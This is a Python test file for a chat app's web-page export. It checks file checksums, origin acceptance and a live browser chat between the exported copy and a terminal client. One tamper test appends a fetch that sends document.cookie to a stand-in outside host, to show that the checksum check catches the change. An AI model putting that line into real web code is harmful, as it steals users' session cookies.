"""
C{twistchat-web export DIR}: the page's files with C{SHA256SUMS}, run as the
real command; and the exported copy, served by Python's own static file server
on 127.0.0.1, in a real headless Chromium against the real C{twistd --web}
(accepting that origin with C{--web-origin}) and the real terminal client.
"""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
from pathlib import Path

from twistchat.bench.processes import Lines
from twistchat.web import export

from tests.browser import Chromium, pin_of
from tests.test_browser import WRONG, say, terminal
from tests.test_e2e import BIN, Client, env
from tests.test_web_server import PASSWORD, WebServer

STATIC = Path(export.__file__).parent / "static"


def run_export(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(BIN / "twistchat-web"), *args, str(folder)], capture_output=True,
                          text=True, timeout=60, env=env(folder.parent))


def test_export_writes_the_files_and_their_sums(tmp_path: Path) -> None:
    copy = tmp_path / "page"
    done = run_export(copy, "export")
    assert done.returncode == 0, done.stderr
    digest = re.search(r"SHA-256 of SHA256SUMS: ([0-9a-f]{64})$", done.stdout, re.M)
    assert digest, done.stdout
    # The overall digest is that of SHA256SUMS, as sha256sum prints it.
    printed = subprocess.run(["sha256sum", "SHA256SUMS"], cwd=copy, capture_output=True,
                             text=True, timeout=30, check=True).stdout
    assert printed == f"{digest.group(1)}  SHA256SUMS\n"
    # Every file is listed, and sha256sum -c agrees.
    checked = subprocess.run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=copy,
                             capture_output=True, text=True, timeout=30)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert sorted(checked.stdout.splitlines()) == sorted(f"{name}: OK" for name in export.FILES)
    # Every shipped file is exported, unchanged but for index.html.
    assert sorted(p.name for p in STATIC.iterdir()) == sorted(export.FILES)
    assert sorted(p.name for p in copy.iterdir()) == sorted([*export.FILES, "SHA256SUMS"])
    for name in export.FILES:
        if name != "index.html":
            assert (copy / name).read_bytes() == (STATIC / name).read_bytes()
    index = (copy / "index.html").read_text()
    assert index == (STATIC / "index.html").read_text().replace(
        '<meta charset="utf-8">\n', '<meta charset="utf-8">\n' + export.LOCAL_HEAD)
    # The policy comes before anything it governs.
    assert index.index("Content-Security-Policy") < index.index("<link")
    # The same install gives the same digest.
    again = run_export(tmp_path / "again", "export")
    assert digest.group(1) in again.stdout


def test_a_changed_file_fails_the_check(tmp_path: Path) -> None:
    copy = tmp_path / "page"
    assert run_export(copy, "export").returncode == 0
    with (copy / "app.js").open("a") as f:
        f.write("fetch('https://elsewhere.example/?' + document.cookie);\n")
    checked = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=copy, capture_output=True,
                             text=True, timeout=30)
    assert checked.returncode == 1
    assert "app.js: FAILED" in checked.stdout


def test_export_refuses_a_folder_with_files_and_bad_usage(tmp_path: Path) -> None:
    copy = tmp_path / "page"
    copy.mkdir()
    (copy / "mine.txt").write_text("keep me")
    done = run_export(copy, "export")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == f"twistchat-web: {copy} is not empty: give a new or empty directory\n"
    assert [p.name for p in copy.iterdir()] == ["mine.txt"]
    done = run_export(copy, "import")
    assert done.returncode == 2
    assert done.stderr.startswith("twistchat-web: unknown command 'import'")


# --- the local copy in Chromium ---------------------------------------------------------


class StaticServer:
    """
    C{python3 -m http.server --bind 127.0.0.1 PORT --directory DIR}, as
    docs/browser.md tells a person to serve the copy (on a free port).
    """

    def __init__(self, folder: Path) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "http.server", "--bind", "127.0.0.1", "0",
             "--directory", str(folder)],
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
            env=env(folder.parent))
        assert self.process.stdout is not None
        self.log = Lines(self.process.stdout)
        self.port = int(self.log.wait_for(r"Serving HTTP on 127\.0\.0\.1 port (\d+)").group(1))
        self.origin = f"http://127.0.0.1:{self.port}"

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait(timeout=30)


def join_from_copy(browser: Chromium, server: str, name: str,
                   password: str = PASSWORD) -> str:
    browser.type("Server", server)
    browser.type("Room", "main")
    browser.type("Name", name)
    browser.type("Password", password)
    browser.press("Join")
    return browser.wait_for_text(lambda t: "Connected to room" in t or "Unable to connect" in t)


def test_local_copy_chats_with_a_terminal_member(tmp_path: Path, members: list[Client]) -> None:
    copy = tmp_path / "page"
    done = run_export(copy, "export")
    assert done.returncode == 0, done.stderr
    checked = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=copy, capture_output=True,
                             text=True, timeout=30)
    assert checked.returncode == 0, checked.stdout
    files = StaticServer(copy)
    server = WebServer(tmp_path, "--web-origin", files.origin)
    try:
        server.log.wait_for(re.escape(files.origin))  # among the accepted origins
        alice = terminal(server, members, "alice")  # type: ignore[arg-type]
        chat = f"127.0.0.1:{server.web}"
        with Chromium(pin_of(server.cert), tmp_path) as browser:
            browser.open(files.origin + "/")
            text = browser.wait_for_text("Not connected")
            assert "A local copy:" in text and "Check first:" not in text
            # The Server field comes first, and is needed.
            assert browser.driver.switch_to.active_element.get_attribute("id") == "server"
            browser.type("Name", "bob")
            browser.type("Server", "user@127.0.0.1/ws")
            browser.press("Join")
            browser.wait_for_text("Type the chat server's address, like chat.example.org:8443.")
            # A wrong password: the terminal client's line.
            text = join_from_copy(browser, chat, "bob", password="not it")
            assert WRONG in text, text
            text = join_from_copy(browser, chat, "bob")
            assert "Connected to room main as bob" in text, text
            alice.out.wait_for(r"\* bob \(127\.0\.0\.1:\d+\) entered the room")
            say(browser, "hello from the local copy")
            alice.out.wait_for(re.escape("[ bob: ] hello from the local copy"))
            alice.say("hello to the local copy")
            text = browser.wait_for_text("hello to the local copy")
            assert re.search(r"alice\s*:\s*hello to the local copy", text), text
            # The same safety number on both sides.
            alice.say("/verify bob")
            theirs = alice.out.wait_for(r"\* Safety number with bob: ([\d ]{60,})").group(1)
            say(browser, "/verify alice")
            assert f"* Safety number with alice: {theirs.strip()}" in browser.wait_for_text(
                "Safety number with alice:")
            browser.press("Close")
            # The page asked only its own origin (files) and the chat server (WebSocket).
            assert browser.origins() == {files.origin, f"wss://{chat}"}
            console = browser.console()
            assert not [line for line in console if "Content Security Policy" in line
                        or "SEVERE" in line or "error" in line.lower()], console
            # A reload remembers the server.
            browser.reload()
            browser.wait_for_text("Not connected")
            assert browser.field("Server").get_attribute("value") == chat
        server.log.wait_for(r"bob \(127\.0\.0\.1, \d+\) connected to room 'main'")
    finally:
        assert server.stop()
        files.stop()
    log = "\n".join(server.log.seen)
    assert "Traceback" not in log and "local copy" not in log and PASSWORD not in log
    # The static server served only the copy's files.
    served = re.findall(r'"GET (\S+) HTTP', "\n".join(files.log.rest(timeout=5)))
    assert served and set(served) <= {"/", "/app.js", "/twistchat.js", "/style.css",
                                      "/favicon.svg"}, served


def test_local_copy_needs_its_origin_accepted(tmp_path: Path) -> None:
    copy = tmp_path / "page"
    assert run_export(copy, "export").returncode == 0
    files = StaticServer(copy)
    server = WebServer(tmp_path)  # no --web-origin
    try:
        with Chromium(pin_of(server.cert), tmp_path) as browser:
            browser.open(files.origin + "/")
            browser.wait_for_text("Not connected")
            text = join_from_copy(browser, f"127.0.0.1:{server.web}", "bob")
            assert "Unable to connect" in text and "Connected to room" not in text, text
        server.log.wait_for(
            rf"WebSocket refused: origin '{re.escape(files.origin)}' is not one")
    finally:
        assert server.stop()
        files.stop()


def test_digest_matches_the_sums_of_the_installed_files() -> None:
    listing = export.sums({name: export.page_file(name) for name in export.FILES})
    lines = listing.decode().splitlines()
    assert [line.split("  ")[1] for line in lines] == sorted(export.FILES)
    for line in lines:
        digest, name = line.split("  ")
        assert digest == hashlib.sha256(export.page_file(name)).hexdigest()
